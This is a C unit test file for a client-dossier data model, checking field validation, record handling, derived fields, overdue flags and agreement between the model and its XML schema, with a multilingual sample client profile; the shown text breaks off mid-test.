@@ -1,0 +1,1460 @@
+/* test_dossier.c - unit tests of the client dossier (src/ka_dossier.h): tables, values, records,
+ * DOSSIER() fields, overdue flags, XML round trips, and hostile documents. */
+#include "ka_test.h"
+
+#include <fcntl.h>
+#include <string.h>
+#include <time.h>
+#include <unistd.h>
+
+#include <libxml/parser.h>
+#include <libxml/relaxng.h>
+#include <libxml/tree.h>
+
+#include "ka_dossier.h"
+
+extern const char ka_dossier_rng[];
+extern const size_t ka_dossier_rng_len;
+
+/* A parse of a hostile document must be refused within this time (ms); a quadratic or
+ * exponential case takes minutes.  Valgrind runs everything some 30 times slower. */
+#define HOSTILE_MS (3000.0 * slowdown())
+
+static double slowdown(void)
+{
+    const char *preload = getenv("LD_PRELOAD");
+    return preload && strstr(preload, "vgpreload") ? 20.0 : 1.0;
+}
+
+/* ---------- helpers ---------- */
+
+static double now_ms(void)
+{
+    struct timespec t;
+    clock_gettime(CLOCK_MONOTONIC, &t);
+    return t.tv_sec * 1e3 + t.tv_nsec / 1e6;
+}
+
+static void set_ok(ka_dossier *d, const char *key, const char *value)
+{
+    char *reason = NULL;
+    ka_status st = ka_dossier_set(d, key, value, &reason);
+    if (st != KA_OK)
+        fail_msg("set %s = '%s': %d %s", key, value, st, reason ? reason : "");
+    assert_null(reason);
+}
+
+static void rec_ok(ka_dossier *d, const char *list, size_t i, const char *key, const char *value)
+{
+    char *reason = NULL;
+    ka_status st = ka_dossier_record_set(d, list, i, key, value, &reason);
+    if (st != KA_OK)
+        fail_msg("%s[%zu].%s = '%s': %d %s", list, i, key, value, st, reason ? reason : "");
+}
+
+static size_t add_ok(ka_dossier *d, const char *list)
+{
+    size_t i = 99;
+    assert_int_equal(ka_dossier_record_add(d, list, &i), KA_OK);
+    return i;
+}
+
+static const char *get(const ka_dossier *d, const char *key)
+{
+    const char *v = NULL;
+    assert_int_equal(ka_dossier_get(d, key, &v), KA_OK);
+    return v;
+}
+
+static const char *rget(const ka_dossier *d, const char *list, size_t i, const char *key)
+{
+    const char *v = NULL;
+    assert_int_equal(ka_dossier_record_get(d, list, i, key, &v), KA_OK);
+    return v;
+}
+
+/* Fails unless setting key to value is refused with a reason containing part, leaving the old
+ * value. */
+static void set_refused(ka_dossier *d, const char *key, const char *value, const char *part)
+{
+    char *reason = NULL;
+    char *before = strdup(get(d, key));
+    assert_int_equal(ka_dossier_set(d, key, value, &reason), KA_ERR_ARG);
+    assert_non_null(reason);
+    if (!strstr(reason, part))
+        fail_msg("set %s = '%s': reason '%s' lacks '%s'", key, value, reason, part);
+    assert_string_equal(get(d, key), before);
+    free(before);
+    free(reason);
+}
+
+static char *field_text(const ka_dossier *d, const char *key, const char *today)
+{
+    char *v = NULL;
+    assert_int_equal(ka_dossier_field(d, key, today, &v), KA_OK);
+    assert_non_null(v);
+    return v;
+}
+
+static void assert_field(const ka_dossier *d, const char *key, const char *today, const char *want)
+{
+    char *v = field_text(d, key, today);
+    assert_string_equal(v, want);
+    free(v);
+}
+
+/* Serialises d (which must succeed), returning the malloc'ed document. */
+static char *serialize_ok(const ka_dossier *d, size_t *len)
+{
+    char *xml = NULL, *reason = NULL;
+    ka_status st = ka_dossier_serialize(d, &xml, len, &reason);
+    if (st != KA_OK)
+        fail_msg("serialize: %d %s", st, reason ? reason : "");
+    assert_non_null(xml);
+    assert_int_equal(strlen(xml), *len);
+    return xml;
+}
+
+static ka_dossier *parse_ok(const char *xml, size_t len)
+{
+    ka_dossier *d = NULL;
+    char *reason = NULL;
+    ka_status st = ka_dossier_parse(xml, len, &d, &reason);
+    if (st != KA_OK)
+        fail_msg("parse: %d %s", st, reason ? reason : "");
+    assert_null(reason);
+    assert_non_null(d);
+    return d;
+}
+
+/* Fails unless every field of every section and record of a and b is equal byte for byte. */
+static void assert_same_dossier(const ka_dossier *a, const ka_dossier *b)
+{
+    for (size_t s = 0; s < ka_dossier_section_count(); s++) {
+        const ka_dossier_section_def *sec = ka_dossier_section_at(s);
+        if (!sec->record) {
+            for (size_t f = 0; f < sec->nfields; f++) {
+                const char *va = get(a, sec->fields[f].key), *vb = get(b, sec->fields[f].key);
+                if (strlen(va) != strlen(vb) || memcmp(va, vb, strlen(va)) != 0)
+                    fail_msg("%s: '%s' != '%s'", sec->fields[f].key, va, vb);
+            }
+            continue;
+        }
+        size_t na = 0, nb = 0;
+        assert_int_equal(ka_dossier_record_count(a, sec->key, &na), KA_OK);
+        assert_int_equal(ka_dossier_record_count(b, sec->key, &nb), KA_OK);
+        assert_int_equal(na, nb);
+        for (size_t r = 0; r < na; r++)
+            for (size_t f = 0; f < sec->nfields; f++) {
+                const char *va = rget(a, sec->key, r, sec->fields[f].key);
+                const char *vb = rget(b, sec->key, r, sec->fields[f].key);
+                if (strlen(va) != strlen(vb) || memcmp(va, vb, strlen(va)) != 0)
+                    fail_msg("%s[%zu].%s: '%s' != '%s'", sec->key, r, sec->fields[f].key, va, vb);
+            }
+    }
+}
+
+/* A realistic profile with Latvian, Ukrainian, Slovenian, Romanian and Tagalog text. */
+static ka_dossier *realistic_profile(void)
+{
+    ka_dossier *d = ka_dossier_new();
+    assert_non_null(d);
+    set_ok(d, "id", "LV-0042");
+    set_ok(d, "name", "SIA Ķegums Enerģija");
+    set_ok(d, "industry", "Hydro-power equipment and maintenance");
+    set_ok(d, "employees", "240");
+    set_ok(d, "website", "https://kegums-energija.example.lv");
+    set_ok(d, "address", "Jomas iela 1\nJūrmala, LV-2015\nLatvija");
+    set_ok(d, "description",
+           "Services turbines on the Daugava (Ķegums, Pļaviņas, Rīga plants); "
+           "buys spare parts twice a year & expects delivery < 6 weeks.");
+    set_ok(d, "history_text", "Founded 1998 in Ķegums; opened a service base in Jūrmala in 2016.");
+    set_ok(d, "type", "breadwinner, image-maker");
+    set_ok(d, "stage", "partnership");
+    set_ok(d, "need", "yes");
+    set_ok(d, "solvency", "yes");
+    set_ok(d, "authority", "unknown");
+    set_ok(d, "manager", "Ștefan Țară (Brașov office)");
+    set_ok(d, "next_review", "2025-03-01");
+    set_ok(d, "opportunities", "Spare-parts framework agreement; training for the Київ team.");
+    set_ok(d, "client_gains", "Fewer outages; one supplier for Ķegums and Jūrmala.");
+    set_ok(d, "our_gains", "Reference customer in the Baltics.");
+    set_ok(d, "their_clients_gain", "Stable electricity prices.");
+    set_ok(d, "values", "Reliability, punctuality, safety.");
+    set_ok(d, "goals", "Sign the framework agreement by 2025-06-30.");
+
+    size_t p = add_ok(d, "people");
+    rec_ok(d, "people", p, "name", "Григорій Сковорода");
+    rec_ok(d, "people", p, "position", "Procurement director, Київ branch");
+    rec_ok(d, "people", p, "role", "decision-maker");
+    rec_ok(d, "people", p, "participation", "directly-involved");
+    rec_ok(d, "people", p, "motives", "Wants fewer suppliers; personally values long friendships.");
+    rec_ok(d, "people", p, "openness", "4");
+    rec_ok(d, "people", p, "familiarity", "3");
+    rec_ok(d, "people", p, "dynamism", "5");
+    rec_ok(d, "people", p, "authority", "5");
+    rec_ok(d, "people", p, "contact", "+380 44 000 0000\nh.skovoroda@example.ua");
+    rec_ok(d, "people", p, "birthday", "1972-12-03");
+    rec_ok(d, "people", p, "dates", "Name day: 2025-01-22");
+    rec_ok(d, "people", p, "interests", "Philosophy, hiking in the Carpathians");
+    rec_ok(d, "people", p, "cuisine", "Ukrainian (борщ, вареники)");
+    rec_ok(d, "people", p, "goal", "Test the idea of a framework agreement");
+    rec_ok(d, "people", p, "notes", "Prefers meetings in Київ, not video calls.");
+    p = add_ok(d, "people");
+    rec_ok(d, "people", p, "name", "Maria Dela Cruz");
+    rec_ok(d, "people", p, "position", "Operations manager, Parañaque office");
+    rec_ok(d, "people", p, "role", "user");
+    rec_ok(d, "people", p, "participation", "interested");
+    rec_ok(d, "people", p, "openness", "5");
+    rec_ok(d, "people", p, "cuisine", "Filipino");
+    rec_ok(d, "people", p, "notes", "Greets visitors with \"Maligayang pagdating!\"");
+    p = add_ok(d, "people");
+    rec_ok(d, "people", p, "name", "Janez Šmarje");
+    rec_ok(d, "people", p, "position", "Chief engineer");
+    rec_ok(d, "people", p, "role", "influencer");
+    rec_ok(d, "people", p, "participation", "obliged");
+    rec_ok(d, "people", p, "familiarity", "5");
+    rec_ok(d, "people", p, "interests", "Cycling from Šmarje to Čačak");
+
+    size_t h = add_ok(d, "history");
+    rec_ok(d, "history", h, "date", "2023-04-12");
+    rec_ok(d, "history", h, "kind", "tender");
+    rec_ok(d, "history", h, "outcome", "won");
+    rec_ok(d, "history", h, "amount", "125000.00");
+    rec_ok(d, "history", h, "currency", "EUR");
+    rec_ok(d, "history", h, "note", "Won on delivery time, not price.");
+    h = add_ok(d, "history");
+    rec_ok(d, "history", h, "date", "2023-09-01");
+    rec_ok(d, "history", h, "kind", "complaint");
+    rec_ok(d, "history", h, "outcome", "resolved");
+    rec_ok(d, "history", h, "note", "Wrong seals delivered to Čačak; replaced within 3 days.");
+    h = add_ok(d, "history");
+    rec_ok(d, "history", h, "date", "2024-02-10");
+    rec_ok(d, "history", h, "kind", "satisfaction");
+    rec_ok(d, "history", h, "score", "8");
+    rec_ok(d, "history", h, "note", "Happy overall; invoices in Latvian only would help.");
+    h = add_ok(d, "history");
+    rec_ok(d, "history", h, "date", "2024-05-20");
+    rec_ok(d, "history", h, "kind", "meeting");
+    rec_ok(d, "history", h, "note", "Visit in Jūrmala with Ștefan.");
+    h = add_ok(d, "history");
+    rec_ok(d, "history", h, "date", "2024-06-01");
+    rec_ok(d, "history", h, "kind", "order");
+    rec_ok(d, "history", h, "amount", "48000.5");
+    rec_ok(d, "history", h, "currency", "EUR");
+
+    size_t c = add_ok(d, "competitors");
+    rec_ok(d, "competitors", c, "name", "Brașov Tehnic SRL");
+    rec_ok(d, "competitors", c, "offer", "10% cheaper seals, 10-week delivery.");
+    rec_ok(d, "competitors", c, "notes", "Strong in Romania; no service base in the Baltics.");
+    c = add_ok(d, "competitors");
+    rec_ok(d, "competitors", c, "name", "Parañaque Industrial Supply");
+    return d;
+}
+
+/* Reads a whole file (malloc'ed, NUL-terminated). */
+static char *read_file(const char *path, size_t *len)
+{
+    FILE *f = fopen(path, "rb");
+    if (!f)
+        return NULL;
+    fseek(f, 0, SEEK_END);
+    long n = ftell(f);
+    fseek(f, 0, SEEK_SET);
+    char *s = malloc((size_t)n + 1);
+    assert_non_null(s);
+    assert_int_equal(fread(s, 1, (size_t)n, f), (size_t)n);
+    s[n] = '\0';
+    fclose(f);
+    *len = (size_t)n;
+    return s;
+}
+
+/* ---------- tables ---------- */
+
+static void test_tables_are_consistent(void **state)
+{
+    assert_int_equal(ka_dossier_section_count(), 6);
+    assert_null(ka_dossier_section_at(6));
+    assert_null(ka_dossier_derived_at(ka_dossier_derived_count()));
+    assert_null(ka_dossier_section_find("nope"));
+    for (size_t s = 0; s < ka_dossier_section_count(); s++) {
+        const ka_dossier_section_def *sec = ka_dossier_section_at(s);
+        assert_ptr_equal(ka_dossier_section_find(sec->key), sec);
+        assert_true(sec->label && *sec->label && sec->help && *sec->help);
+        for (size_t f = 0; f < sec->nfields; f++) {
+            const ka_dossier_field_def *fd = &sec->fields[f];
+            assert_ptr_equal(ka_dossier_section_field(sec, fd->key), fd);
+            assert_true(fd->element && fd->label && *fd->label && fd->help && *fd->help);
+            assert_false(fd->flags & KA_DOSSIER_DERIVED);
+            if (fd->kind == KA_DOSSIER_ENUM || fd->kind == KA_DOSSIER_ENUM_LIST)
+                assert_true(fd->values && fd->values[0].value && fd->values[0].label);
+            else
+                assert_null(fd->values);
+            if (fd->kind == KA_DOSSIER_INTEGER)
+                assert_true(fd->min <= fd->max);
+            /* An attribute lives on an element whose text is another field. */
+            if (fd->attribute) {
+                int found = 0;
+                for (size_t g = 0; g < sec->nfields; g++)
+                    found |= !sec->fields[g].attribute &&
+                             strcmp(sec->fields[g].element, fd->element) == 0;
+                assert_true(found);
+            }
+            /* Simple fields are DOSSIER() keys: unique across the simple sections. */
+            if (!sec->record)
+                assert_ptr_equal(ka_dossier_key_find(fd->key), fd);
+        }
+    }
+    /* Derived keys clash with no simple key. */
+    for (size_t i = 0; i < ka_dossier_derived_count(); i++) {
+        const ka_dossier_field_def *fd = ka_dossier_derived_at(i);
+        assert_true(fd->flags & KA_DOSSIER_DERIVED);
+        assert_null(fd->element);
+        assert_ptr_equal(ka_dossier_key_find(fd->key), fd);
+    }
+    /* The keys the contract names exist, with the expected kinds. */
+    assert_int_equal(ka_dossier_key_find("manager")->kind, KA_DOSSIER_TEXT);
+    assert_int_equal(ka_dossier_key_find("type")->kind, KA_DOSSIER_ENUM_LIST);
+    assert_int_equal(ka_dossier_key_find("next_review")->kind, KA_DOSSIER_DATE);
+    assert_int_equal(ka_dossier_key_find("people")->kind, KA_DOSSIER_INTEGER);
+    assert_null(ka_dossier_key_find("nope"));
+    assert_null(ka_dossier_key_find(NULL));
+    assert_null(ka_dossier_section_field(NULL, "id"));
+}
+
+/* A set of strings, for comparing the schema with the tables. */
+typedef struct string_set {
+    char *items[512];
+    size_t n;
+} string_set;
+
+static void set_add(string_set *set, const char *s)
+{
+    for (size_t i = 0; i < set->n; i++)
+        if (strcmp(set->items[i], s) == 0)
+            return;
+    assert_true(set->n < 512);
+    set->items[set->n++] = strdup(s);
+}
+
+static void set_assert_equal(string_set *a, string_set *b, const char *what)
+{
+    for (size_t i = 0; i < a->n; i++) {
+        int found = 0;
+        for (size_t j = 0; j < b->n; j++)
+            found |= strcmp(a->items[i], b->items[j]) == 0;
+        if (!found)
+            fail_msg("%s '%s' is in the schema but not in the tables", what, a->items[i]);
+    }
+    for (size_t j = 0; j < b->n; j++) {
+        int found = 0;
+        for (size_t i = 0; i < a->n; i++)
+            found |= strcmp(a->items[i], b->items[j]) == 0;
+        if (!found)
+            fail_msg("%s '%s' is in the tables but not in the schema", what, b->items[j]);
+    }
+    for (size_t i = 0; i < a->n; i++)
+        free(a->items[i]);
+    for (size_t j = 0; j < b->n; j++)
+        free(b->items[j]);
+}
+
+static void collect_schema(xmlNodePtr node, string_set *elements, string_set *attributes,
+                           string_set *values)
+{
+    for (xmlNodePtr n = node; n; n = n->next) {
+        if (n->type != XML_ELEMENT_NODE)
+            continue;
+        xmlChar *name = xmlGetProp(n, BAD_CAST "name");
+        if (name && xmlStrEqual(n->name, BAD_CAST "element"))
+            set_add(elements, (const char *)name);
+        if (name && xmlStrEqual(n->name, BAD_CAST "attribute"))
+            set_add(attributes, (const char *)name);
+        if (xmlStrEqual(n->name, BAD_CAST "value")) {
+            xmlChar *text = xmlNodeGetContent(n);
+            set_add(values, (const char *)text);
+            xmlFree(text);
+        }
+        xmlFree(name);
+        collect_schema(n->children, elements, attributes, values);
+    }
+}
+
+/* The schema and the tables name the same elements, attributes and enumerated values. */
+static void test_tables_match_schema(void **state)
+{
+    static string_set se, sa, sv, te, ta, tv;
+    xmlDocPtr rng = xmlReadMemory(ka_dossier_rng, (int)ka_dossier_rng_len, "ka_dossier.rng", NULL,
+                                  XML_PARSE_NONET);
+    assert_non_null(rng);
+    collect_schema(xmlDocGetRootElement(rng), &se, &sa, &sv);
+    xmlFreeDoc(rng);
+
+    set_add(&te, "dossier");
+    set_add(&ta, "version");
+    set_add(&tv, KA_DOSSIER_VERSION);
+    for (size_t s = 0; s < ka_dossier_section_count(); s++) {
+        const ka_dossier_section_def *sec = ka_dossier_section_at(s);
+        set_add(&te, sec->element);
+        if (sec->record)
+            set_add(&te, sec->record);
+        for (size_t f = 0; f < sec->nfields; f++) {
+            const ka_dossier_field_def *fd = &sec->fields[f];
+            set_add(fd->attribute ? &ta : &te, fd->attribute ? fd->attribute : fd->element);
+            for (const ka_dossier_enum_value *v = fd->values; v && v->value; v++)
+                set_add(&tv, v->value);
+        }
+    }
+    set_assert_equal(&se, &te, "element");
+    set_assert_equal(&sa, &ta, "attribute");
+    set_assert_equal(&sv, &tv, "value");
+}
+
+/* Validates a document against the schema alone (no model checks), silently. */
+#if LIBXML_VERSION >= 21200
+static void silent(void *data, const xmlError *err)
+#else
+static void silent(void *data, xmlErrorPtr err)
+#endif
+{
+    (void)data;
+    (void)err;
+}
+
+static int schema_accepts(const char *xml)
+{
+    xmlDocPtr doc = xmlReadMemory(xml, (int)strlen(xml), NULL, NULL, XML_PARSE_NONET);
+    assert_non_null(doc);
+    xmlRelaxNGParserCtxtPtr pc =
+        xmlRelaxNGNewMemParserCtxt(ka_dossier_rng, (int)ka_dossier_rng_len);
+    xmlRelaxNGSetParserStructuredErrors(pc, silent, NULL);
+    xmlRelaxNGPtr schema = xmlRelaxNGParse(pc);
+    assert_non_null(schema);
+    xmlRelaxNGValidCtxtPtr vc = xmlRelaxNGNewValidCtxt(schema);
+    xmlRelaxNGSetValidStructuredErrors(vc, silent, NULL);
+    int rc = xmlRelaxNGValidateDoc(vc, doc);
+    xmlRelaxNGFreeValidCtxt(vc);
+    xmlRelaxNGFree(schema);
+    xmlRelaxNGFreeParserCtxt(pc);
+    xmlFreeDoc(doc);
+    return rc == 0;
+}
+
+/* The schema's value rules agree with the model's: samples either both accept or both refuse. */
+static void test_schema_and_model_agree_on_values(void **state)
+{
+    static const struct {
+        const char *key, *value;
+        int valid;
+    } cases[] = {
+        {"employees", "0", 1},
+        {"employees", "100000000", 1},
+        {"employees", "100000001", 0},
+        {"employees", "007", 0},
+        {"employees", "+7", 0},
+        {"employees", "-1", 0},
+        {"employees", "1e3", 0},
+        {"next_review", "2024-02-29", 1},
+        {"next_review", "2023-02-29", 0},
+        {"next_review", "0001-01-01", 1},
+        {"next_review", "9999-12-31", 1},
+        {"next_review", "0000-01-01", 0},
+        {"next_review", "2024-13-01", 0},
+        {"next_review", "2024-1-01", 0},
+        {"next_review", "2024-01-01Z", 0},
+        {"next_review", "20240101", 0},
+        {"stage", "butterfly", 1},
+        {"stage", "Butterfly", 0},
+        {"need", "unknown", 1},
+        {"need", "maybe", 0},
+        {"type", "demanding", 1},
+        {"type", "breadwinner,", 0},
+    };
+    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+        const ka_dossier_field_def *f = ka_dossier_key_find(cases[i].key);
+        const ka_dossier_section_def *sec = ka_dossier_section_find("identity");
+        if (!ka_dossier_section_field(sec, cases[i].key))
+            sec = ka_dossier_section_find("classification");
+        assert_ptr_equal(ka_dossier_section_field(sec, cases[i].key), f);
+        char xml[1024];
+        if (strcmp(sec->key, "identity") == 0)
+            snprintf(xml, sizeof xml,
+                     "<dossier xmlns='" KA_DOSSIER_NS "' version='1'><identity><id>1</id>"
+                     "<name>A</name><%s>%s</%s></identity></dossier>",
+                     f->element, cases[i].value, f->element);
+        else
+            snprintf(xml, sizeof xml,
+                     "<dossier xmlns='" KA_DOSSIER_NS "' version='1'><identity><id>1</id>"
+                     "<name>A</name></identity><classification><%s>%s</%s></classification>"
+                     "</dossier>",
+                     f->element, cases[i].value, f->element);
+        int model = ka_dossier_check(f, cases[i].value, NULL) == KA_OK;
+        int schema = schema_accepts(xml);
+        if (model != cases[i].valid || schema != cases[i].valid)
+            fail_msg("%s = '%s': model %d, schema %d, want %d", cases[i].key, cases[i].value, model,
+                     schema, cases[i].valid);
+    }
+    /* Record fields: scales, score, amount, currency. */
+    static const struct {
+        const char *list_xml;
+        int valid;
+    } recs[] = {
+        {"<people><person><name>x</name><openness>5</openness></person></people>", 1},
+        {"<people><person><name>x</name><openness>6</openness></person></people>", 0},
+        {"<people><person><name>x</name><openness>0</openness></person></people>", 0},
+        {"<people><person><name></name></person></people>", 0},
+        {"<history><entry><date>2024-01-01</date><kind>satisfaction</kind><score>10</score>"
+         "</entry></history>",
+         1},
+        {"<history><entry><date>2024-01-01</date><kind>satisfaction</kind><score>11</score>"
+         "</entry></history>",
+         0},
+        {"<history><entry><date>2024-01-01</date><kind>order</kind>"
+         "<amount currency='EUR'>-123456789012345.123456</amount></entry></history>",
+         1},
+        {"<history><entry><date>2024-01-01</date><kind>order</kind>"
+         "<amount currency='EUR'>1234567890123456</amount></entry></history>",
+         0},
+        {"<history><entry><date>2024-01-01</date><kind>order</kind>"
+         "<amount currency='EUR'>1.1234567</amount></entry></history>",
+         0},
+        {"<history><entry><date>2024-01-01</date><kind>order</kind>"
+         "<amount currency='eur'>1</amount></entry></history>",
+         0},
+        {"<history><entry><date>2024-01-01</date><kind>order</kind>"
+         "<amount>1</amount></entry></history>",
+         0},
+    };
+    for (size_t i = 0; i < sizeof recs / sizeof recs[0]; i++) {
+        char xml[1024];
+        snprintf(xml, sizeof xml,
+                 "<dossier xmlns='" KA_DOSSIER_NS "' version='1'><identity><id>1</id>"
+                 "<name>A</name></identity>%s</dossier>",
+                 recs[i].list_xml);
+        int model = ka_dossier_validate(xml, strlen(xml), NULL) == KA_OK;
+        int schema = schema_accepts(xml);
+        if (model != recs[i].valid || schema != recs[i].valid)
+            fail_msg("%s: model %d, schema %d, want %d", recs[i].list_xml, model, schema,
+                     recs[i].valid);
+    }
+}
+
+/* ---------- model ---------- */
+
+static void test_new_is_empty_and_free_accepts_null(void **state)
+{
+    ka_dossier_free(NULL);
+    ka_dossier *d = ka_dossier_new();
+    assert_non_null(d);
+    assert_string_equal(get(d, "id"), "");
+    assert_string_equal(get(d, "type"), "");
+    size_t n = 7;
+    assert_int_equal(ka_dossier_record_count(d, "people", &n), KA_OK);
+    assert_int_equal(n, 0);
+    ka_dossier_free(d);
+}
+
+static void test_set_get_and_refusals(void **state)
+{
+    ka_dossier *d = ka_dossier_new();
+    set_ok(d, "name", "Čačak d.o.o.");
+    assert_string_equal(get(d, "name"), "Čačak d.o.o.");
+    set_ok(d, "name", "");
+    assert_string_equal(get(d, "name"), "");
+    set_ok(d, "name", "Šmarje");
+    set_ok(d, "name", NULL);
+    assert_string_equal(get(d, "name"), "");
+
+    set_ok(d, "stage", "butterfly");
+    set_refused(d, "stage", "caterpillar", "'stage' must be one of: butterfly, partnership");
+    set_refused(d, "stage", "Butterfly", "must be one of");
+    set_ok(d, "employees", "0");
+    set_refused(d, "employees", "-5", "'employees' must be a whole number from 0 to 100000000");
+    set_refused(d, "employees", "05", "whole number");
+    set_refused(d, "employees", "12 000", "whole number");
+    set_refused(d, "employees", "9999999999999", "whole number");
+    set_ok(d, "next_review", "2024-02-29");
+    set_refused(d, "next_review", "2023-02-29", "'next_review' must be a date YYYY-MM-DD");
+    set_refused(d, "next_review", "29.02.2024", "YYYY-MM-DD");
+    set_refused(d, "next_review", "2024-02-29T10:00", "YYYY-MM-DD");
+    set_refused(d, "next_review", "0000-01-01", "YYYY-MM-DD");
+    set_ok(d, "manager", "tab\there, newline\nthere, CR\r, emoji 😀");
+    set_refused(d, "manager", "bad \xc3\x28 utf8", "'manager' is not valid UTF-8");
+    set_refused(d, "manager", "overlong \xc0\xaf", "not valid UTF-8");
+    set_refused(d, "manager", "surrogate \xed\xa0\x80", "not valid UTF-8");
+    set_refused(d, "manager", "too big \xf4\x90\x80\x80", "not valid UTF-8");
+    set_refused(d, "manager", "cut \xe2\x82", "not valid UTF-8");
+    set_refused(d, "manager", "bell \x07", "U+0007, which XML does not allow");
+    set_refused(d, "manager", "nonchar \xef\xbf\xbe", "U+FFFE");
+    assert_string_equal(get(d, "manager"), "tab\there, newline\nthere, CR\r, emoji 😀");
+
+    char *reason = NULL;
+    assert_int_equal(ka_dossier_set(d, "colour", "red", &reason), KA_ERR_ARG);
+    assert_string_equal(reason, "unknown field 'colour'");
+    free(reason);
+    assert_int_equal(ka_dossier_set(d, "people", "3", NULL), KA_ERR_ARG); /* derived */
+    const char *v = "x";
+    assert_int_equal(ka_dossier_get(d, "colour", &v), KA_ERR_ARG);
+    assert_string_equal(v, "");
+    assert_int_equal(ka_dossier_get(d, "people", &v), KA_ERR_ARG); /* a list, not a field */
+
+    /* ka_dossier_check, for the sidebar's live feedback. */
+    assert_int_equal(ka_dossier_check(ka_dossier_key_find("id"), "", &reason), KA_ERR_ARG);
+    assert_string_equal(reason, "'id' is required");
+    free(reason);
+    assert_int_equal(ka_dossier_check(ka_dossier_key_find("industry"), "", NULL), KA_OK);
+    assert_int_equal(ka_dossier_check(ka_dossier_key_find("overdue"), "x", &reason), KA_ERR_ARG);
+    assert_string_equal(reason, "'overdue' is computed and cannot be set");
+    free(reason);
+    assert_int_equal(ka_dossier_check(NULL, "x", NULL), KA_ERR_ARG);
+    ka_dossier_free(d);
+}
+
+static void test_type_list_is_canonical(void **state)
+{
+    ka_dossier *d = ka_dossier_new();
+    set_ok(d, "type", "innovator,breadwinner");
+    assert_string_equal(get(d, "type"), "innovator, breadwinner");
+    set_ok(d, "type", "  expert ,\tdemanding  ");
+    assert_string_equal(get(d, "type"), "expert, demanding");
+    set_ok(d, "type", "breadwinner, perspective, image-maker, expert, innovator, demanding");
+    assert_string_equal(get(d, "type"),
+                        "breadwinner, perspective, image-maker, expert, innovator, demanding");
+    set_refused(d, "type", "expert, expert", "'type' lists 'expert' twice");
+    set_refused(d, "type", "expert,,demanding", "'type' has an empty item");
+    set_refused(d, "type", "expert,", "empty item");
+    set_refused(d, "type", "expert, rich", "'type' items must be one of: breadwinner, perspective");
+    ka_dossier_free(d);
+}
+
+static void test_records(void **state)
+{
+    ka_dossier *d = ka_dossier_new();
+    size_t n = 9, i = 9;
+    const char *v = NULL;
+    char *reason = NULL;
+    assert_int_equal(ka_dossier_record_add(d, "people", &i), KA_OK);
+    assert_int_equal(i, 0);
+    assert_int_equal(ka_dossier_record_add(d, "people", NULL), KA_OK);
+    assert_int_equal(ka_dossier_record_add(d, "people", &i), KA_OK);
+    assert_int_equal(i, 2);
+    rec_ok(d, "people", 0, "name", "Ann");
+    rec_ok(d, "people", 1, "name", "Bob");
+    rec_ok(d, "people", 2, "name", "Cid");
+    rec_ok(d, "people", 2, "openness", "5");
+    assert_string_equal(rget(d, "people", 1, "openness"), "");
+    assert_int_equal(ka_dossier_record_set(d, "people", 2, "openness", "6", &reason), KA_ERR_ARG);
+    assert_string_equal(reason, "'openness' must be a whole number from 1 to 5, written with "
+                                "digits only");
+    free(reason);
+    assert_string_equal(rget(d, "people", 2, "openness"), "5");
+
+    assert_int_equal(ka_dossier_record_remove(d, "people", 1), KA_OK);
+    assert_int_equal(ka_dossier_record_count(d, "people", &n), KA_OK);
+    assert_int_equal(n, 2);
+    assert_string_equal(rget(d, "people", 0, "name"), "Ann");
+    assert_string_equal(rget(d, "people", 1, "name"), "Cid");
+    assert_string_equal(rget(d, "people", 1, "openness"), "5");
+
+    /* Out of range, unknown lists and keys. */
+    assert_int_equal(ka_dossier_record_remove(d, "people", 2), KA_ERR_ARG);
+    assert_int_equal(ka_dossier_record_get(d, "people", 2, "name", &v), KA_ERR_ARG);
+    assert_string_equal(v, "");
+    assert_int_equal(ka_dossier_record_get(d, "people", 0, "colour", &v), KA_ERR_ARG);
+    assert_int_equal(ka_dossier_record_set(d, "people", 5, "name", "X", &reason), KA_ERR_ARG);
+    assert_string_equal(reason, "no field 'name' in record 5 of list 'people'");
+    free(reason);
+    assert_int_equal(ka_dossier_record_add(d, "identity", &i), KA_ERR_ARG);
+    assert_int_equal(ka_dossier_record_count(d, "identity", &n), KA_ERR_ARG);
+    assert_int_equal(ka_dossier_record_count(d, "nope", &n), KA_ERR_ARG);
+    assert_int_equal(ka_dossier_record_add(NULL, "people", &i), KA_ERR_ARG);
+
+    /* History amounts and currencies. */
+    size_t h = add_ok(d, "history");
+    rec_ok(d, "history", h, "amount", "-99.95");
+    rec_ok(d, "history", h, "currency", "PHP");
+    assert_int_equal(ka_dossier_record_set(d, "history", h, "currency", "€", &reason), KA_ERR_ARG);
+    assert_non_null(strstr(reason, "ISO 4217"));
+    free(reason);
+    assert_int_equal(ka_dossier_record_set(d, "history", h, "amount", "1,5", &reason), KA_ERR_ARG);
+    assert_non_null(strstr(reason, "'amount' must be an amount"));
+    free(reason);
+    assert_string_equal(rget(d, "history", h, "amount"), "-99.95");
+    ka_dossier_free(d);
+}
+
+/* ---------- DOSSIER() and overdue ---------- */
+
+static void test_field_for_dossier_function(void **state)
+{
+    ka_dossier *d = realistic_profile();
+    char *v = (char *)"untouched";
+    assert_int_equal(ka_dossier_field(d, "colour", NULL, &v), KA_ERR_ARG);
+    assert_null(v);
+    assert_field(d, "manager", NULL, "Ștefan Țară (Brașov office)");
+    assert_field(d, "type", NULL, "breadwinner, image-maker");
+    assert_field(d, "next_review", NULL, "2025-03-01");
+    assert_field(d, "employees", NULL, "240");
+    assert_field(d, "people", NULL, "3");
+    assert_field(d, "decision_maker", NULL, "Григорій Сковорода");
+    assert_field(d, "competitors", NULL, "Brașov Tehnic SRL, Parañaque Industrial Supply");
+    assert_field(d, "last_contact", NULL, "2024-05-20");
+    assert_field(d, "last_satisfaction", NULL, "2024-02-10");
+    assert_field(d, "satisfaction", NULL, "8");
+    assert_field(d, "overdue", "2024-06-01", "");
+    assert_field(d, "overdue", "2025-02-10", "satisfaction");
+    assert_field(d, "overdue", "2025-03-02", "review, satisfaction");
+    assert_int_equal(ka_dossier_field(d, "overdue", NULL, &v), KA_ERR_ARG);
+    assert_int_equal(ka_dossier_field(d, "overdue", "2025-02-30", &v), KA_ERR_ARG);
+    assert_int_equal(ka_dossier_field(NULL, "manager", NULL, &v), KA_ERR_ARG);
+    assert_int_equal(ka_dossier_field(d, "manager", NULL, NULL), KA_ERR_ARG);
+
+    /* A later satisfaction check on the same date wins; unset fields read as "". */
+    size_t h = add_ok(d, "history");
+    rec_ok(d, "history", h, "date", "2024-02-10");
+    rec_ok(d, "history", h, "kind", "satisfaction");
+    rec_ok(d, "history", h, "score", "9");
+    assert_field(d, "satisfaction", NULL, "9");
+    ka_dossier_free(d);
+
+    d = ka_dossier_new();
+    for (size_t i = 0; i < ka_dossier_section_count(); i++) {
